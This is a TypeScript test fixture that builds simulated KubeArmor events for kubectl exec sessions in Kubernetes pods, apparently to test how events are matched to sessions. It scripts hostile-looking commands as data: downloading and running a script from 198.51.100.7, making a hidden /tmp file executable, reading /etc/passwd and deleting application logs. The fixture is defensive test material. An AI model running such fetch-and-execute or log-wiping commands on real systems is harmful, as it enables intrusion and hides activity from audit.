/**
 * What happened on the nodes during the sessions in examples/audit/: the source of
 * examples/kubearmor/kubearmor.jsonl, with the truth kept here. Regenerate the file with
 *   npx tsx test/correlate/examples-world.ts > examples/kubearmor/kubearmor.jsonl
 * (test/correlate/examples.test.ts checks that the file is what this prints).
 */
import { fileURLToPath } from 'node:url';
import { at, World } from '../../scenarios/correlation.ts';

export const exampleSessions = {
  adminShell: '6b0f8e7e-2d0c-4b8e-9a51-1f0d5c7a3e11',
  adminCat: '0c9e2d4a-77b1-4f6e-8c2d-5a1b3e9f7d20',
  aliceRm: '5f2d7c1a-8e44-4b9a-9c3e-7a1f0e6d2b90',
  k9s: '6b3a2f1e-0d9c-4b8a-6f5e-4d3c2b1a0fbb',
  lens: '7c4b3a2f-1e0d-4c9b-7a6f-5e4d3c2b1acc',
  cpFrom: '8d5c4b3a-2f1e-4d0c-8b7a-6f5e4d3c2bdd',
  cpTo: '9e6d5c4b-3a2f-4e1d-9c8b-7a6f5e4d3cee',
} as const;

export function exampleWorld(): World {
  const world = new World();
  const s = exampleSessions;
  const web = world.container('ip-10-0-1-23', 'shop', 'web-7d9f5c6b8-x2k4t', 'web');
  const nginx = world.existing(web, '/usr/sbin/nginx');

  // 2024-05-02 09:15:01: kubernetes-admin `kubectl exec -it web-7d9f5c6b8-x2k4t -- /bin/sh`.
  let t = '2024-05-02T09:15:01.104512Z';
  const sh = world.runcExec(web, at(t, 61), ['/bin/sh'], { tty: true, truth: s.adminShell });
  world.spawn(sh, at(t, 4_200), ['/usr/bin/id']);
  const osRelease = world.spawn(sh, at(t, 9_800), ['/bin/cat', '/etc/os-release']);
  world.file(osRelease, at(t, 9_801), '/etc/os-release');
  world.blockedExec(sh, at(t, 31_000), ['/usr/bin/apt-get', 'install', '-y', 'nmap'], 'block-pkg-mgmt-tools-exec');
  const curl = world.spawn(sh, at(t, 75_000), ['/usr/bin/curl', '-s', 'http://198.51.100.7/p.sh', '-o', '/tmp/p.sh']);
  world.network(curl, at(t, 75_040), 'remoteip=198.51.100.7 port=80 protocol=TCP');
  const script = world.spawn(sh, at(t, 90_000), ['/bin/sh', '/tmp/p.sh']);
  const chmod = world.spawn(script, at(t, 90_010), ['/bin/chmod', '+x', '/tmp/.x']);
  world.file(chmod, at(t, 90_011), '/tmp/.x');
  // An exec readiness probe every 30 s, and nginx reading its config: nobody's session.
  for (let offset = 15_000; offset < 400_000; offset += 30_000) {
    const probe = world.runcExec(web, at(t, offset), ['/bin/sh', '-c', 'test -f /usr/share/nginx/html/index.html'], { truth: null });
    world.file(probe, at(t, offset + 2), '/usr/share/nginx/html/index.html');
  }
  world.file(nginx, at(t, 200_000), '/etc/nginx/conf.d/default.conf');

  // 2025-10-19 14:41:14: two non-interactive execs at the same instant, kubernetes-admin's and alice's.
  t = '2025-10-19T14:41:14.630152Z';
  const catPipe = world.runcExec(web, at(t, 45), ['/bin/sh', '-c', 'cat /etc/passwd | head -n 3'], { truth: s.adminCat });
  const cat = world.spawn(catPipe, at(t, 47), ['/bin/cat', '/etc/passwd']);
  world.file(cat, at(t, 48), '/etc/passwd');
  world.spawn(catPipe, at(t, 47.5), ['/usr/bin/head', '-n', '3']);
  const rmShell = world.runcExec(web, at(t, 48), ['/bin/sh', '-c', 'rm -rf /var/log/app/*'], { truth: s.aliceRm });
  const rm = world.spawn(rmShell, at(t, 51), ['/bin/rm', '-rf', '/var/log/app/access.log', '/var/log/app/error.log']);
  world.fileAlert(rm, at(t, 52), '/var/log/app/access.log', 'audit-log-deletion', 'Audit');
  world.fileAlert(rm, at(t, 53), '/var/log/app/error.log', 'audit-log-deletion', 'Audit');
  const probe = world.runcExec(web, at(t, 500), ['/bin/sh', '-c', 'test -f /usr/share/nginx/html/index.html'], { truth: null });
  world.file(probe, at(t, 502), '/usr/share/nginx/html/index.html');

  // 2025-10-21 in web-0: k9s's shell, Lens's shell, then `kubectl cp` out and in.
  const web0 = world.container('ip-10-0-1-24', 'shop', 'web-0', 'web');
  t = '2025-10-21T09:00:00.100000Z';
  const k9sShell = world.runcExec(web0, at(t, 40), ['/bin/sh', '-c', 'command -v bash >/dev/null && exec bash || exec sh'], { tty: true, truth: s.k9s });
  const bash = world.execInPlace(k9sShell, at(t, 44), ['/bin/bash']);
  world.spawn(bash, at(t, 20_000), ['/bin/ls', '-la', '/app/config']);
  const vi = world.spawn(bash, at(t, 41_000), ['/usr/bin/vi', '/app/config/app.yaml']);
  world.file(vi, at(t, 41_100), '/app/config/app.yaml');

  t = '2025-10-21T09:10:00.100000Z';
  const lensShell = world.runcExec(web0, at(t, 38), ['/bin/sh', '-c', 'clear; (bash || ash || sh)'], { tty: true, truth: s.lens });
  world.spawn(lensShell, at(t, 40), ['/usr/bin/clear']);
  const subshell = world.spawn(lensShell, at(t, 42), ['/bin/bash']);
  world.spawn(subshell, at(t, 15_000), ['/usr/bin/env']);

  t = '2025-10-21T09:20:00.100000Z';
  const tarOut = world.runcExec(web0, at(t, 35), ['/bin/tar', 'cf', '-', '/app/config'], { truth: s.cpFrom });
  world.file(tarOut, at(t, 36), '/app/config/app.yaml');
  t = '2025-10-21T09:30:00.100000Z';
  const tarIn = world.runcExec(web0, at(t, 37), ['/bin/tar', '-xmf', '-', '-C', '/tmp'], { truth: s.cpTo });
  world.file(tarIn, at(t, 900), '/tmp/app.yaml');
  return world;
}

if (process.argv[1] && fileURLToPath(import.meta.url) === process.argv[1]) {
  for (const { line } of exampleWorld().runtimeLines()) process.stdout.write(line + '\n');
}
